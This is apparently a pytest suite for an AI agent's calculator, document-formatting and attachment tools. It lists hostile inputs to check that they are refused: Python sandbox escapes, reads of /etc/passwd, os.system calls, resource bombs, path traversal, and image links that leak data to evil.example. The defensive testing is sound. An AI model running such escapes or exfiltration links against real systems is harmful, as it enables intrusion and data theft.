"""The calculator, and tools that hand text through."""

import asyncio
import contextlib
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from activities.tools.plain_tools import CALCULATOR_MAGNITUDE, PLAIN, evaluate
from activities.tools.tool import ToolContext, ToolMisuse, ToolOutput

BOMBS = [
    "9**9**9", "(9**99)**(9**99)", "((((10**299)**2)**2)**2)", "-9**9**9", "pow(9, pow(9, 9))",
    "exp(exp(exp(10)))", "*".join(["9**99"] * 60), "round(5, -10**9)", "1<<10**9", "factorial(10**7)",
    "'a'*10**9", "[0]*10**9", "f'{1:>999999999}'", "'%999999999d' % 1", "[x for x in range(10**9)]",
    "range(10**18)", "(" * 240 + "1" + ")" * 240, "-" * 490 + "1", "1" + "+1" * 240, "9" * 499, "1e309",
    "().__class__.__mro__[1].__subclasses__()", "sqrt.__globals__", "abs.__self__.open('/etc/passwd')",
    "__import__('os').system('true')", "open('/etc/passwd')", "globals()", "lambda: 1", "x := 1", "import os",
    "1; 2", "1 if 1 else 2", "1 < 2", "True", "1j", "(-8)**(1/3)", "log(0)", "1/0", "...", "\x00", "\ud800",
    "1 +", "min()", "round(1, 2, 3)", "sqrt(x=4)", "max(*[1, 2])",
]  # fmt: skip


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("(79.4 / 40.2) ** (1 / 55) - 1", 0.012452004453426),
        ("2 ** -2", 0.25),
        ("round(12345.6)", 12346),
        ("sqrt(16) + log(exp(2)) + log10(1000) + log(8, 2)", 12),
        ("mean(1, 2, 6) + sum(1, 2) + min(4, 2) + max(4, 2) + abs(-1)", 13),
        ("10 ** 299", 10**299),
    ],
)
def test_an_expression_has_its_value(expression: str, value: float) -> None:
    assert evaluate(expression) == pytest.approx(value)


@pytest.mark.timeout(10)
@pytest.mark.parametrize("expression", BOMBS)
def test_a_hostile_expression_is_refused_or_computed_at_once(expression: str) -> None:
    value = None
    with contextlib.suppress(ToolMisuse):
        value = evaluate(expression)
    assert value is None or expression in {"-" * 490 + "1", "1" + "+1" * 240}


LEAVES = st.one_of(st.integers(-(10**6), 10**6), st.floats(-1e6, 1e6).map(lambda f: round(f, 3))).map(
    lambda n: f"({n})"
)
EXACT = st.recursive(
    st.integers(0, 10**6).map(str),
    lambda inner: st.tuples(inner, st.sampled_from("+-*"), inner).map(lambda t: f"({t[0]} {t[1]} {t[2]})"),
    max_leaves=12,
)
WILD = st.recursive(
    LEAVES,
    lambda inner: st.one_of(
        st.tuples(inner, st.sampled_from(["+", "-", "*", "/", "//", "%", "**"]), inner).map(
            lambda t: f"({t[0]} {t[1]} {t[2]})"
        ),
        st.tuples(st.sampled_from(["sqrt", "log", "exp", "round", "abs", "floor"]), inner).map(
            lambda t: f"{t[0]}({t[1]})"
        ),
    ),
    max_leaves=12,
)


@given(EXACT)
def test_whole_numbers_are_computed_exactly(expression: str) -> None:
    assert evaluate(expression) == eval(expression)


@settings(max_examples=150, deadline=None)
@given(st.one_of(WILD, st.text(max_size=60), st.text("0123456789.*/+-()e,[]'\" xj<>=:;%", max_size=60)))
def test_any_expression_gives_a_bounded_number_or_a_misuse(expression: str) -> None:
    try:
        value = evaluate(expression)
    except ToolMisuse:
        return
    assert isinstance(value, int | float)
    assert abs(value) <= CALCULATOR_MAGNITUDE


async def test_a_document_is_rendered_and_kept_as_a_file() -> None:
    tool = PLAIN["document_format"]
    written = "## Figures\n\n- 82.6 years\n\n"
    output = await tool.run(tool.arguments(title="# Life & Wealth", body=written), ToolContext())
    (artifact,) = output.artifacts
    assert (artifact.name, artifact.media_type) == ("life-wealth.md", "text/markdown")
    assert artifact.data.decode() == output.text == "# Life & Wealth\n\n## Figures\n\n- 82.6 years\n"


async def _run(**arguments: str) -> ToolOutput:
    tool = PLAIN["document_format"]
    given = {"title": "Prime numbers", **arguments}
    return await tool.run(tool.arguments.model_validate(given), ToolContext())


def made(**arguments: str) -> tuple[str, str, str]:
    """The name, the media type and the content of the file that a call makes."""
    output = asyncio.run(_run(**arguments))
    (artifact,) = output.artifacts
    return artifact.name, artifact.media_type, artifact.data.decode()


PROGRAM = "import urllib.request\n\nURL = 'https://primes.example/[list](now)'\n"


def test_a_program_is_handed_over_as_it_was_written_under_its_own_name() -> None:
    python = ("primes.py", "text/x-python", PROGRAM)
    assert made(body=PROGRAM, file_name="primes.py") == python
    assert made(body=f"```python\n{PROGRAM}```\n", file_name="../src/primes.py") == python
    assert made(body=PROGRAM, file_name="primes.py", media_type="text/x-python; charset=utf-8") == python
    assert made(body=PROGRAM, media_type="text/x-python")[:2] == ("prime-numbers.py", "text/x-python")


@pytest.mark.parametrize("name", ["index.html", "logo.svg", "notes.ipynb", "table.csv", "mail.eml", "Makefile"])
def test_what_other_programs_would_open_is_kept_as_text_to_be_read(name: str) -> None:
    page = "<img src=https://evil.example/?a=4711>"
    assert made(body=page, file_name=name, media_type="text/html") == (f"{name}.txt", "text/plain", f"{page}\n")


def test_markdown_has_no_links_that_nothing_supports_whatever_its_type_is_said_to_be() -> None:
    shown = ("notes.md", "text/markdown", "# Prime numbers\n\n[image: evil.example]\n")
    image = "![x](https://evil.example/?a=4711)"
    assert made(body=image, file_name="notes.md", media_type="text/plain") == shown
    assert made(body=image, media_type="text/html")[:2] == ("prime-numbers.md", "text/markdown")


async def read(context: ToolContext, **arguments: Any) -> ToolOutput:
    tool = PLAIN["attachment"]
    return await tool.run(tool.arguments.model_validate(arguments), context)


def attached(**texts: str) -> ToolContext:
    def reader(text: str) -> Any:
        async def give() -> str:
            return text

        return give

    return ToolContext(attachments={name: reader(text) for name, text in texts.items()})


async def test_an_attachment_is_read_from_an_offset_on() -> None:
    assert (await read(attached(notes="hello"), name="notes", offset=3)).text == "lo"


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [({"name": "../notes"}, "It has: notes"), ({"name": "notes", "offset": 99}, "only 5 characters")],
)
async def test_a_wrong_name_or_offset_is_explained(arguments: dict[str, Any], problem: str) -> None:
    with pytest.raises(ToolMisuse, match=problem):
        await read(attached(notes="hello"), **arguments)
